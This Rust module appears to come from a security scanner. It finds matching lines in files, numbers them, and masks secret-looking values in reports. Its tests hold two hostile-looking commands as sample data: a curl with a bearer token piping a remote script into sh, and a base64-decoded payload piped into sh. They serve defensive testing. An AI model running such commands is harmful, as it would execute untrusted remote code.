//! Lines of a file: regular expressions over them, their numbers, and how a report may show them.

use std::ops::Range;
use std::sync::OnceLock;

use regex::bytes::{Regex, RegexBuilder};

use super::super::subject::shown;
use crate::command_line;

/// A regular expression over lines, compiled when it is first asked.
#[derive(Debug)]
pub(super) struct Lines {
    text: String,
    regex: OnceLock<Option<Regex>>,
}

impl Lines {
    pub(super) fn new(text: String) -> Self {
        Self { text, regex: OnceLock::new() }
    }

    /// What is wrong with it: not asked of those that the program carries at every start, as their proofs tell.
    pub(super) fn problem(&self) -> Option<String> {
        // Parsing tells every mistake, and is much cheaper than building it.
        let mut parser =
            regex_syntax::ParserBuilder::new().unicode(false).utf8(false).multi_line(true).build();
        parser.parse(&self.text).err().map(|error| format!("{}: {error}", self.text))
    }

    pub(super) fn regex(&self) -> Option<&Regex> {
        let build =
            || RegexBuilder::new(&self.text).unicode(false).multi_line(true).size_limit(4 << 20).build().ok();
        self.regex.get_or_init(build).as_ref()
    }

    pub(super) fn holds(&self, text: &[u8]) -> bool {
        self.regex().is_some_and(|regex| regex.is_match(text))
    }
}

/// The first line that fits and is no exception: its number, and its text.
pub(super) fn line_of(lines: &Lines, except: Option<&Lines>, content: &[u8]) -> Option<(u64, String)> {
    let regex = lines.regex()?;
    let (start, line) = regex
        .find_iter(content)
        .map(|found| line_around(content, found.start()))
        .find(|(_, line)| except.is_none_or(|except| !except.holds(line)))?;
    Some((number(content, start), without_secrets(line)))
}

/// The line that holds a byte, and where it begins.
pub(super) fn line_around(content: &[u8], at: usize) -> (usize, &[u8]) {
    let (before, after) = content.split_at_checked(at).unwrap_or((content, b""));
    let start = memchr::memrchr(b'\n', before).map_or(0, |newline| newline.saturating_add(1));
    let end = memchr::memchr(b'\n', after).map_or(content.len(), |len| at.saturating_add(len));
    (start, content.get(start..end).unwrap_or_default())
}

/// The number of the line that begins at `start`, from 1.
pub(super) fn number(content: &[u8], start: usize) -> u64 {
    let before = content.get(..start).unwrap_or_default();
    memchr::memchr_iter(b'\n', before).count() as u64 + 1
}

/// A line as a report may show it: what is a secret by its form is left out.
pub(crate) fn without_secrets(line: &[u8]) -> String {
    let mut text = line.to_vec();
    let mut ranges: Vec<_> = command_line::secrets(line).into_iter().map(|found| found.range).collect();
    // `auth sufficient pam_x.so` is PAM's, and no password of redis.
    ranges.retain(|range| !line.get(range.clone()).is_some_and(|value| value.ends_with(b".so")));
    ranges.extend(long_words(line));
    ranges.sort_by_key(|range| std::cmp::Reverse((range.start, range.end)));
    // From the end, so that places before stay where they are; what overlaps is one.
    let mut last = text.len();
    for range in ranges {
        let end = range.end.min(last);
        if range.start < end {
            text.splice(range.start..end, "***".bytes());
            last = range.start;
        }
    }
    shown(&text)
}

/// Long runs of letters and digits mixed: keys, hashes, packed programs.
fn long_words(line: &[u8]) -> Vec<Range<usize>> {
    const LONG: usize = 16;
    let mut found = Vec::new();
    let mut start = 0;
    for at in 0..=line.len() {
        let in_word = line.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || b"+_=".contains(byte));
        if in_word {
            continue;
        }
        let word = line.get(start..at).unwrap_or_default();
        if word.len() >= LONG && word.iter().any(u8::is_ascii_digit) {
            found.push(start..at);
        }
        start = at.saturating_add(1);
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shown_line_has_no_secret_in_it() {
        let line = b"curl -H 'Authorization: Bearer kd83Hs71kd83Hs71' http://192.0.2.7/a | sh";
        assert!(!without_secrets(line).contains("kd83"), "{}", without_secrets(line));
        assert!(without_secrets(line).contains("192.0.2.7/a | sh"));
        assert_eq!(
            without_secrets(b"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ1 | base64 -d | sh"),
            "echo *** | base64 -d | sh"
        );
    }

    #[test]
    fn lines_are_counted_from_one() {
        let text = b"a\nbc\nd";
        assert_eq!(line_around(text, 3), (2, b"bc".as_slice()));
        assert_eq!(number(text, 2), 2);
        assert_eq!(line_around(text, 5), (5, b"d".as_slice()));
    }
}
